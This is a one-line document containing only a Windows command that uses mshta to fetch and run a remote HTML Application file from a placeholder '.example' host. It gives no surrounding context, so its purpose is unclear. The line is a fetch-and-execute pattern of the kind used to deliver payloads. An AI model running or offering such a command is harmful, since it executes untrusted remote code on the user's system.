mshta https://dash.example/app.hta
